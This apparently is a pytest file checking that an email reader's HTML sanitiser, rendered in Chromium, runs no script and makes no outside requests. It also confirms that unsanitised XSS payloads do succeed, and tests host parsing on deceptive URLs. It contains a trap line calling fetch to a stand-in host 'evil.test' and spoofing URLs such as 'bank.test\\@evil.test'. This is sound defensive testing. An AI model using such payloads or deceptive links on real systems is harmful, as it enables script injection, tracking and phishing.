"""The sanitiser before the judge that counts: Chromium runs no script and asks nobody for anything."""

from collections.abc import Callable
from functools import partial
from typing import Any

import pytest

from conftest import BROWSER_PATIENCE, IN_CHROMIUM
from mailboxes.reading import render_html, render_text
from mailboxes.reading.links import host_of
from mailboxes.reading.tests.oracle import OURS
from mailboxes.reading.tests.payloads import ALL, PAYLOADS
from mailboxes.reading.tests.test_text import HOSTILE

READER = "http://reader.test/"
CSP = (
    "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'; "
    f"img-src data: {READER[:-1]}; style-src 'unsafe-inline'; frame-ancestors 'self'"
)
TRAP = "window.ran = () => fetch('http://evil.test/ran'); window.alert = window.ran;"
BATCH = 10
# The smallest GIF, so that an image of ours loads.
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"

pytestmark = IN_CHROMIUM


# Nothing is painted before it is laid out, and what a style names is asked for when it is.
LAID_OUT = "() => document.documentElement.getBoundingClientRect().height"


def requests_of(
    chromium: Any,
    pages: list[str],
    headers: dict[str, str],
    *,
    until: Callable[[list[list[str]]], bool] = lambda asked: True,
    open_at_once: int = 2,
) -> list[list[str]]:
    """What each page asked for besides itself and our images, until it is what is waited for.

    A page is closed when others have been opened and shown after it, and an empty one after the last.
    """
    asked: list[list[str]] = [[] for _ in pages]

    def answer(number: int, route: Any) -> None:
        url = route.request.url
        if url.startswith(f"{READER}page"):
            html = [*pages, ""][number]
            body = f"<!doctype html><meta charset=utf-8><script>{TRAP}</script>{html}"
            route.fulfill(body=body, headers={"content-type": "text/html; charset=utf-8", **headers})
        elif url.startswith(READER[:-1] + OURS):
            route.fulfill(body=GIF, headers={"content-type": "image/gif"})
        else:
            asked[number].append(url)
            route.abort()

    context = chromium.new_context()
    context.set_default_timeout(BROWSER_PATIENCE)
    opened = []
    for number in range(len(pages) + 1):
        opened.append(context.new_page())
        opened[-1].route("**/*", partial(answer, number))
        opened[-1].goto(f"{READER}page{number}", wait_until="load")
        opened[-1].evaluate(LAID_OUT)
        if len(opened) > open_at_once:
            opened.pop(0).close()
    while not until(asked):
        # Playwright calls the handlers while it waits for something of a page.
        opened[-1].evaluate(LAID_OUT)
    context.close()
    return asked


def proxied(url: str) -> str:
    return f"{OURS}proxy?{len(url)}"


SANITISED: dict[str, Callable[[str], str]] = {
    "images off": lambda payload: render_html(payload, cid={"a": f"{OURS}1"}).html,
    "images on": lambda payload: render_html(f"<b>{payload}", cid={}, remote=proxied).html,
    "as text": render_text,
}


@pytest.mark.parametrize("headers", [{}, {"content-security-policy": CSP}], ids=["no CSP", "CSP"])
@pytest.mark.parametrize("way", SANITISED)
def test_no_script_runs_and_no_request_leaves(chromium: Any, way: str, headers: dict[str, str]) -> None:
    payloads = [payload for _, payload in ALL] + HOSTILE
    # What was sanitised is whole by itself, so that many go on one page.
    batches = [payloads[at : at + BATCH] for at in range(0, len(payloads), BATCH)]
    asked = requests_of(chromium, ["\n".join(map(SANITISED[way], batch)) for batch in batches], headers)
    assert [(batch, urls) for batch, urls in zip(batches, asked, strict=True) if urls] == []


def test_unsanitised_the_same_attacks_succeed(chromium: Any) -> None:
    """Or else the test above would prove nothing."""
    scripts = [payload for payload in PAYLOADS["handlers"] if "<img" in payload][:6]
    loads = [
        f"<p>{payload}" for payload in PAYLOADS["style attributes"][:6] + PAYLOADS["images that load"][:6]
    ]

    def successes(asked: list[list[str]]) -> tuple[int, int]:
        ran = sum(1 for urls in asked if "http://evil.test/ran" in urls)
        return ran, sum(1 for urls in asked if any(url != "http://evil.test/ran" for url in urls))

    def enough(asked: list[list[str]]) -> bool:
        ran, loaded = successes(asked)
        return ran >= 5 and loaded >= 9

    payloads = [*scripts, *loads]
    # They are waited for: if they did not succeed, this would hang.
    asked = requests_of(chromium, payloads, {}, until=enough, open_at_once=len(payloads) + 1)
    assert enough(asked), successes(asked)


URLS = [
    *(
        "https://bank.test/",
        "HTTP://BANK.test:80/x",
        "https:bank.test",
        "https:/bank.test",
        "https:///bank.test/",
    ),
    *(
        "https:\\\\bank.test\\@evil.test",
        "https://bank.test\\@evil.test/",
        "https://a@bank.test/",
        "http://a:b@c.test",
    ),
    *(
        "https://bank.test#@evil.test",
        "https://bank.test?@evil.test",
        "ht\ttps://ba\nnk.test/",
        "  https://bank.test ",
    ),
    *(
        "https://b%61nk.test/",
        "https://bücher.test/",
        "https://BÜCHER.test",
        "https://bank。test/",
        "https://ｂａｎｋ.test",
    ),
    *(
        "https://аpple.test/",
        "https://[::1]/",
        "https://a@b@c.test/",
        "https://xn--80ak6aa92e.test/",
        "https://faß.test",
    ),
]


def test_a_links_host_is_the_one_that_chromium_would_ask(chromium: Any) -> None:
    context = chromium.new_context()
    hosts = context.new_page().evaluate("urls => urls.map(url => new URL(url).hostname)", URLS)
    context.close()
    assert [host_of(url) for url in URLS] == hosts
